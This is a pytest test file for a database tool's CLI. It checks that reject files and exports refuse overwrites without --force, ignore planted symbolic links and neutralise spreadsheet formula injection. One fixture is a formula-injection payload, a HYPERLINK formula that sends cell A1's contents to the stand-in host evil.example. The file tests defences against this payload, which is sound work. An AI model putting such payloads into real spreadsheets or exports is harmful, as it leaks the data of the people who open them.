"""Files coopdb writes for the user (FILE.rejects.csv, exports): never replaced without --force, never through
a planted symbolic link, checked before an import commits, unique partial names, and cells a spreadsheet would
run as formulas neutralised. Both backends."""

from __future__ import annotations

import csv
import os
import threading
from pathlib import Path

import pytest
from openpyxl import load_workbook
from sqlalchemy import text

from db import export as db_export
from db.errors import UserError
from db.outfiles import OutFile, neutralise
from importers.files import import_file
from tests.conftest import url_text
from tests.pipeline.conftest import data_counts

HEADER = "code,title,status\n"
GOOD_AND_BAD = HEADER + "P-1,One,agreed\nP-2,Two,finished\n"  # `finished` is not a status: rejected


@pytest.fixture
def data(tmp_path) -> Path:
    path = tmp_path / "p.csv"
    path.write_text(GOOD_AND_BAD)
    return path


def imported(engine) -> int:
    with engine.connect() as conn:
        return conn.execute(text("SELECT count(*) FROM projects")).scalar_one()


# --- FILE.rejects.csv --------------------------------------------------------------------------------------

def test_rejects_file_is_not_replaced_without_force(cli, world, db_url, data, tmp_path):
    rejects = tmp_path / "p.rejects.csv"
    rejects.write_text("my own notes\n")
    before = data_counts(world)
    run = cli("import", "projects", data, "--allow-rejects", "-d", url_text(db_url))
    assert run.exit_code == 3
    assert run.stderr == (f"error: {rejects} already exists (a file): give --force to replace it, "
                          "or move it away\n")
    assert rejects.read_text() == "my own notes\n"
    assert data_counts(world) == before  # refused before anything was read or written
    run = cli("import", "projects", data, "--allow-rejects", "--force", "-d", url_text(db_url))
    assert run.exit_code == 0, run.stderr
    assert "finished" in rejects.read_text()
    assert imported(world) == 1


def test_rejects_file_never_follows_a_planted_link(cli, world, db_url, data, tmp_path):
    victim = tmp_path / "victim.txt"
    victim.write_text("precious\n")
    link = tmp_path / "p.rejects.csv"
    link.symlink_to(victim)
    run = cli("import", "projects", data, "--allow-rejects", "-d", url_text(db_url))
    assert run.exit_code == 3
    assert "already exists (a symbolic link): give --force" in run.stderr
    run = cli("import", "projects", data, "--allow-rejects", "--force", "-d", url_text(db_url))
    assert run.exit_code == 0, run.stderr
    assert victim.read_text() == "precious\n"  # the link was replaced, its target untouched
    assert not link.is_symlink() and "finished" in link.read_text()


def test_rejects_path_that_is_a_folder_stops_before_the_import(cli, world, db_url, data, tmp_path):
    (tmp_path / "p.rejects.csv").mkdir()
    before = data_counts(world)
    for extra in ([], ["--force"]):
        run = cli("import", "projects", data, "--allow-rejects", *extra, "-d", url_text(db_url))
        assert run.exit_code == 3
        assert run.stderr == f"error: {tmp_path / 'p.rejects.csv'} is a folder: move it away or choose another name\n"
        assert "internal error" not in run.stderr
    assert data_counts(world) == before
    with world.connect() as conn:
        assert conn.execute(text("SELECT count(*) FROM import_runs")).scalar_one() == 0


def test_rejects_folder_not_writable_stops_before_the_import(world, data, tmp_path):
    if os.geteuid() == 0:
        pytest.skip("root writes into any folder")
    tmp_path.chmod(0o555)
    try:
        with pytest.raises(UserError, match="cannot be written"):
            import_file(world, "projects", data, allow_rejects=True)
    finally:
        tmp_path.chmod(0o755)
    assert imported(world) == 0


def test_no_rejects_file_and_no_partial_when_nothing_is_rejected(world, tmp_path):
    (tmp_path / "in").mkdir()
    path = tmp_path / "in" / "p.csv"
    path.write_text(HEADER + "P-1,One,agreed\n")
    import_file(world, "projects", path, allow_rejects=True)
    assert sorted(p.name for p in path.parent.iterdir()) == ["p.csv"]


def test_rejects_file_neutralises_formulas(world, tmp_path):
    path = tmp_path / "p.csv"
    path.write_text(HEADER + 'P-1,One,"=HYPERLINK(""http://x""&A1,""click"")"\nP-2,Two,@SUM(1)\nP-3,Three,-2\n')
    import_file(world, "projects", path, allow_rejects=True)
    with open(tmp_path / "p.rejects.csv", newline="", encoding="utf-8") as fh:
        values = [r["value"] for r in csv.DictReader(fh)]
    assert values == ["'=HYPERLINK(\"http://x\"&A1,\"click\")", "'@SUM(1)", "'-2"]
    with world.connect() as conn:  # the table keeps the raw value
        assert conn.execute(text("SELECT value FROM import_rejects ORDER BY line")).scalars().first().startswith("=")


# --- exports -----------------------------------------------------------------------------------------------

def test_export_refuses_to_replace_without_force(cli, db_url, bi_engine, tmp_path):
    out = tmp_path / "out"
    out.mkdir()
    (out / "membership_spans.csv").write_text("mine\n")
    run = cli("export", "country_pairs", "membership_spans", "--out", out, "-d", url_text(db_url))
    assert run.exit_code == 3
    assert run.stderr == (f"error: {out / 'membership_spans.csv'} already exists (a file): give --force to replace "
                          "it, or move it away\n")
    assert sorted(p.name for p in out.iterdir()) == ["membership_spans.csv"]  # not even the first view written
    run = cli("export", "country_pairs", "membership_spans", "--out", out, "--force", "-d", url_text(db_url))
    assert run.exit_code == 0, run.stderr
    assert (out / "membership_spans.csv").read_text().startswith("membership_id,")


def test_export_never_follows_planted_links(cli, db_url, bi_engine, tmp_path):
    out = tmp_path / "out"
    out.mkdir()
    victim = tmp_path / "victim.txt"
    victim.write_text("precious\n")
    (out / "country_pairs.csv.partial").symlink_to(victim)  # the old fixed partial name
    (out / "country_pairs.csv").symlink_to(victim)
    run = cli("export", "country_pairs", "--out", out, "-d", url_text(db_url))
    assert run.exit_code == 3 and "already exists (a symbolic link)" in run.stderr
    run = cli("export", "country_pairs", "--out", out, "--force", "-d", url_text(db_url))
    assert run.exit_code == 0, run.stderr
    assert victim.read_text() == "precious\n"
    assert not (out / "country_pairs.csv").is_symlink()
    assert sorted(p.name for p in out.iterdir()) == ["country_pairs.csv", "country_pairs.csv.partial"]


def test_concurrent_exports_to_one_folder(db_url, bi_engine, tmp_path):
    out = tmp_path / "out"
    out.mkdir()
    errors: list[BaseException] = []

    def export(fmt: str) -> None:
        try:
            for _ in range(3):
                db_export.export_view(bi_engine, "projects_by_country", fmt, out, batch_size=1, force=True)
        except BaseException as exc:  # collected and asserted below
            errors.append(exc)

    threads = [threading.Thread(target=export, args=(fmt,)) for fmt in ("csv", "csv", "xlsx")]
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join()
    assert errors == []
    assert sorted(p.name for p in out.iterdir()) == ["projects_by_country.csv", "projects_by_country.xlsx"]
    with open(out / "projects_by_country.csv", newline="", encoding="utf-8") as fh:
        assert len(list(csv.reader(fh))) == 1 + len(db_export.bi.read_view(bi_engine, "projects_by_country"))


def test_partial_names_are_unique_and_exclusive(tmp_path):
    first, second = OutFile(tmp_path / "v.csv"), OutFile(tmp_path / "v.csv")
    assert first.partial != second.partial and first.partial.exists() and second.partial.exists()
    with first.open() as fh:
        fh.write("a\n")
    first.publish()
    with second.open() as fh:
        fh.write("b\n")
    with pytest.raises(UserError, match="appeared while it was being written"):
        second.publish()
    assert (tmp_path / "v.csv").read_text() == "a\n" and second.partial.read_text() == "b\n"


# --- formula injection in exports --------------------------------------------------------------------------

FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"click")'


@pytest.fixture
def hostile_titles(bi_engine):
    with bi_engine.begin() as conn:
        conn.execute(text("UPDATE projects SET title = :t, longitude = -5 WHERE code = 'KZ-ZHANATAS-WIND'"),
                     {"t": FORMULA})
        conn.execute(text("UPDATE projects SET title = '@cmd' WHERE code = 'KZ-TURGUSUN-HPP'"))
    return bi_engine


def test_csv_export_neutralises_formulas_and_keeps_numbers(cli, db_url, hostile_titles, tmp_path):
    run = cli("export", "projects_by_country", "--out", tmp_path, "-d", url_text(db_url))
    assert run.exit_code == 0, run.stderr
    with open(tmp_path / "projects_by_country.csv", newline="", encoding="utf-8") as fh:
        rows = list(csv.DictReader(fh))
    wind = next(r for r in rows if r["project_code"] == "KZ-ZHANATAS-WIND")
    assert wind["project_title"] == "'" + FORMULA
    assert wind["longitude"] == "-5.000000"  # a number, not text: unchanged
    assert next(r for r in rows if r["project_code"] == "KZ-TURGUSUN-HPP")["project_title"] == "'@cmd"
    raw = tmp_path / "raw"
    run = cli("export", "projects_by_country", "--out", raw, "--raw-cells", "-d", url_text(db_url))
    assert run.exit_code == 0, run.stderr
    with open(raw / "projects_by_country.csv", newline="", encoding="utf-8") as fh:
        assert FORMULA in {r["project_title"] for r in csv.DictReader(fh)}


def test_xlsx_export_writes_text_never_a_formula(cli, db_url, hostile_titles, tmp_path):
    run = cli("export", "projects_by_country", "-f", "xlsx", "--out", tmp_path, "-d", url_text(db_url))
    assert run.exit_code == 0, run.stderr
    sheet = load_workbook(tmp_path / "projects_by_country.xlsx")["projects_by_country"]
    header = [c.value for c in sheet[1]]
    title, longitude = header.index("project_title") + 1, header.index("longitude") + 1
    cells = [row for row in sheet.iter_rows(min_row=2) if row[title - 1].value == FORMULA]
    assert cells, "the title is kept exactly"
    for row in cells:
        assert row[title - 1].data_type == "s"  # text, not "f" (a formula)
        assert row[longitude - 1].value == -5 and row[longitude - 1].data_type == "n"


def test_neutralise():
    assert [neutralise(v) for v in ("=1+1", "+1", "-1", "@x", "\tx", "\rx", "ok", "", -1, None)] == [
        "'=1+1", "'+1", "'-1", "'@x", "'\tx", "'\rx", "ok", "", -1, None]
